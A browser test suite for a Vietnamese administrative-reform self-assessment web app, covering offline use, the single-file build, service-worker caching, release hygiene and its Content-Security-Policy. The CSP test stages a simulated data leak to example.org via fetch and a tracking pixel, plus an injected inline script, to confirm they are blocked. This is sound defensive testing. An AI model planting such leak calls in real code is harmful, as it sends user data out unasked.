// Works anywhere: offline after the first visit (service worker), the
// single file opened from disk, and a Content-Security-Policy that stops
// any request to another origin while the app keeps working.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { serve, launch, openPage, root } from '../lib/harness.js';

let srv, browser;
before(async () => { srv = await serve(); browser = await launch(); });
after(async () => { await browser?.close(); await srv?.close(); });

const pts = (page, id) => page.locator(`[data-sub="${id}"] .pts`).getAttribute('data-points');

async function shortJourney(page, unit) {
  await page.getByRole('link', { name: 'Tạo bản tự đánh giá mới' }).click();
  await page.getByLabel('Tên cơ quan, đơn vị').fill(unit);
  await page.getByRole('button', { name: 'Tạo và bắt đầu tự chấm' }).click();
  await page.locator('[data-sub="1.1.2"]').getByRole('radio', { name: /^Đạt/ }).check();
  await page.locator('#s1-1-3-num').fill('9');
  await page.locator('#s1-1-3-den').fill('10');
  assert.equal(await pts(page, '1.1.3'), '1');
}

async function exportOk(page) {
  const [dl] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Xuất tệp tự đánh giá (.json)' }).click()]);
  const doc = JSON.parse(fs.readFileSync(await dl.path(), 'utf8'));
  assert.equal(doc.format, 'cchc-self-assessment');
  return doc;
}

test('offline after the first visit: reload, work and export with no network', async () => {
  const { context, page, problems } = await openPage(browser, srv.origin);
  await page.goto(srv.url);
  await page.evaluate(async () => { await navigator.serviceWorker.ready; });
  await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
  await context.setOffline(true);
  await page.reload();
  await page.getByRole('heading', { name: 'Bản tự đánh giá đã lưu trong trình duyệt này' }).waitFor();
  await shortJourney(page, 'UBND xã Ia Grai');
  await page.getByText(/Đã lưu lúc/).waitFor();
  const doc = await exportOk(page);
  assert.equal(doc.unit.name, 'UBND xã Ia Grai');
  // and again after another reload, still offline
  await page.reload();
  await page.locator('[data-sub="1.1.3"]').waitFor();
  assert.equal(await pts(page, '1.1.3'), '1');
  assert.deepEqual(problems, []);
  await context.close();
});

test('two builds, one browser: the agency page leads to Sở Nội vụ\'s, which sees the same data and works offline once used', async () => {
  const { context, page, problems } = await openPage(browser, srv.origin);
  await page.goto(srv.url);
  await page.evaluate(async () => { await navigator.serviceWorker.ready; });
  await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
  await shortJourney(page, 'Sở Tài chính');
  await page.getByText(/Đã lưu lúc/).waitFor();
  // The agency build has no desk: its quiet footer link opens the full
  // build's page; the top bar and the assessment have one "Kết quả", no other.
  assert.equal(await page.locator('.topbar a', { hasText: 'Tổng hợp' }).count(), 0);
  assert.equal(await page.getByRole('link', { name: /Tổng hợp/ }).count(), 1);
  await page.getByRole('contentinfo').getByRole('link', { name: 'Tổng hợp, xếp hạng các đơn vị' }).click();
  await page.waitForURL(/\/so-noi-vu\/#\/so-noi-vu$/);
  await page.getByRole('heading', { level: 1, name: /Tổng hợp/ }).waitFor();
  // Same origin, same storage: the assessment is listed there too.
  await page.getByRole('link', { name: 'Bản tự đánh giá', exact: true }).click();
  await page.getByText('Sở Tài chính').first().waitFor();
  // An old link to the desk on the agency page is sent to the full build.
  await page.goto(srv.url + '#/bo-tieu-chi');
  await page.waitForURL(/\/so-noi-vu\/#\/bo-tieu-chi$/);
  await page.getByRole('heading', { level: 1, name: /Bộ tiêu chí/ }).waitFor();
  // Used once online, the full build opens offline too.
  await context.setOffline(true);
  await page.reload();
  await page.getByRole('heading', { level: 1, name: /Bộ tiêu chí/ }).waitFor();
  await page.goto(srv.url + 'so-noi-vu/#/so-noi-vu');
  await page.getByRole('heading', { level: 1, name: /Tổng hợp/ }).waitFor();
  // …and the agency page is still its own page, not the full build's.
  await page.goto(srv.url);
  await page.getByRole('heading', { name: 'Bản tự đánh giá đã lưu trong trình duyệt này' }).waitFor();
  assert.equal(await page.evaluate(() => [...document.scripts].some((s) => /so-noi-vu/.test(s.src))), false);
  assert.deepEqual(problems, []);
  await context.close();
});

test('the service worker keeps only the app\'s own files: never a redirect to another origin, never an error', async () => {
  // Another origin that allows CORS, and a same-origin address that
  // redirects there.
  const other = http.createServer((req, res) => {
    res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/plain' });
    res.end('from elsewhere');
  });
  await new Promise((r) => other.listen(0, '127.0.0.1', r));
  const elsewhere = `http://localhost:${other.address().port}/x.txt`;
  const own = await serve(undefined, {
    '/chuyen-huong': (req, res) => { res.writeHead(302, { location: elsewhere }); res.end(); },
    '/ghi-chu.txt': (req, res) => { res.writeHead(200, { 'content-type': 'text/plain' }); res.end('own'); },
  });
  const { context, page } = await openPage(browser, own.origin);
  await page.goto(own.url);
  await page.evaluate(async () => { await navigator.serviceWorker.ready; });
  await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
  const kept = await page.evaluate(async () => {
    for (const u of ['/chuyen-huong', '/khong-co.txt', '/ghi-chu.txt']) await fetch(u).catch(() => {});
    await new Promise((r) => setTimeout(r, 500));
    const out = {};
    for (const u of ['/chuyen-huong', '/khong-co.txt', '/ghi-chu.txt']) out[u] = !!(await caches.match(new URL(u, location.href).href));
    return out;
  });
  assert.deepEqual(kept, { '/chuyen-huong': false, '/khong-co.txt': false, '/ghi-chu.txt': true });
  await context.close();
  await own.close();
  await new Promise((r) => other.close(r));
});

test('the single file works from disk, with autosave and export', async () => {
  const file = path.join(root, 'dist-single', 'cchc-tu-danh-gia.html');
  assert.ok(fs.existsSync(file), 'dist-single/cchc-tu-danh-gia.html missing: trunk build --release --offline');
  const { context, page, problems } = await openPage(browser, 'file://');
  await page.goto(pathToFileURL(file).href);
  await page.getByRole('heading', { name: 'Bản tự đánh giá đã lưu trong trình duyệt này' }).waitFor();
  await shortJourney(page, 'Sở Xây dựng');
  await page.getByText(/Đã lưu lúc/).waitFor();
  await page.reload();
  await page.locator('[data-sub="1.1.3"]').waitFor();
  assert.equal(await page.locator('#s1-1-3-num').inputValue(), '9');
  assert.equal(await pts(page, '1.1.2'), '1');
  const doc = await exportOk(page);
  assert.equal(doc.summary.self_points, 2);
  assert.deepEqual(problems, []);
  await context.close();
});

test('the CSP blocks requests to other origins while the app works', async () => {
  const { context, page, problems } = await openPage(browser, srv.origin);
  await page.goto(srv.url);
  await page.getByRole('link', { name: 'Tạo bản tự đánh giá mới' }).waitFor();
  const blocked = await page.evaluate(async () => {
    const seen = [];
    document.addEventListener('securitypolicyviolation', (e) => seen.push(`${e.effectiveDirective} ${e.blockedURI}`));
    let fetched = 'sent';
    try { await fetch('https://example.org/leak?d=1'); } catch { fetched = 'blocked'; }
    const img = document.createElement('img');
    img.src = 'https://example.org/pixel.png';
    document.body.appendChild(img);
    const s = document.createElement('script');
    s.textContent = 'window.__inline = 1';
    document.body.appendChild(s);
    await new Promise((r) => setTimeout(r, 200));
    return { fetched, inline: window.__inline === 1, seen };
  });
  assert.equal(blocked.fetched, 'blocked');
  assert.equal(blocked.inline, false);
  assert.ok(blocked.seen.some((s) => s.startsWith('connect-src https://example.org')), blocked.seen.join('; '));
  assert.ok(blocked.seen.some((s) => s.startsWith('img-src https://example.org')), blocked.seen.join('; '));
  // nothing left the page: the only problems are the CSP's own reports
  assert.deepEqual(problems.filter((p) => !/Content Security Policy|Refused to|Failed to fetch/.test(p)), []);
  // …and the app still works
  await shortJourney(page, 'Sở Y tế');
  await context.close();
});

test('release hygiene: hashed names, pre-compressed copies, the service worker lists the build', () => {
  // Trunk writes its hash as a u64 in hex without leading zeros: 16 digits
  // most of the time, fewer one build in sixteen (cchc-d1daaca333c561e).
  const dist = path.join(root, 'dist');
  const files = fs.readdirSync(dist);
  for (const re of [/^cchc-[0-9a-f]{12,16}_bg\.wasm$/, /^cchc-[0-9a-f]{12,16}\.js$/, /^app-[0-9a-f]{12,16}\.css$/, /^start-[0-9a-f]{12,16}\.js$/]) {
    const f = files.find((x) => re.test(x));
    assert.ok(f, `no file like ${re}`);
    assert.ok(files.includes(f + '.gz') && files.includes(f + '.br'), `${f} lacks .gz/.br`);
  }
  const sw = fs.readFileSync(path.join(dist, 'sw.js'), 'utf8');
  assert.ok(files.filter((f) => /^(cchc|app|start)-.*\.(js|css|wasm)$/.test(f)).every((f) => sw.includes(`./${f}`)));
  // The full build for Sở Nội vụ, in its folder: hashed, compressed, same
  // CSP, and not pre-cached by the agency's service worker.
  const office = fs.readdirSync(path.join(dist, 'so-noi-vu'));
  for (const re of [/^cchc-so-noi-vu-[0-9a-f]{12,16}_bg\.wasm$/, /^cchc-so-noi-vu-[0-9a-f]{12,16}\.js$/, /^app-[0-9a-f]{12,16}\.css$/, /^start-[0-9a-f]{12,16}\.js$/, /^index\.html$/]) {
    const f = office.find((x) => re.test(x));
    assert.ok(f, `no file like so-noi-vu/${re}`);
    assert.ok(office.includes(f + '.gz') && office.includes(f + '.br'), `so-noi-vu/${f} lacks .gz/.br`);
  }
  const precached = JSON.parse(/const ASSETS = (\[.*\]);/.exec(sw)[1]);
  assert.ok(precached.length > 5 && precached.every((f) => !f.includes('so-noi-vu')), 'the agency does not download the full build');
  const officeHtml = fs.readFileSync(path.join(dist, 'so-noi-vu', 'index.html'), 'utf8');
  assert.match(officeHtml, /Content-Security-Policy" content="default-src 'self'; script-src 'self' 'wasm-unsafe-eval'/);
  assert.doesNotMatch(officeHtml, /<script type="module">/, 'no inline script');
  const html = fs.readFileSync(path.join(dist, 'index.html'), 'utf8');
  console.log(`single file: ${fs.statSync(path.join(root, 'dist-single', 'cchc-tu-danh-gia.html')).size} bytes`);
  assert.match(html, /Content-Security-Policy" content="default-src 'self'; script-src 'self' 'wasm-unsafe-eval'/);
  assert.doesNotMatch(html, /<script type="module">/, 'no inline script');
  assert.doesNotMatch(html, /\son[a-z]+="/, 'no inline handlers');
});
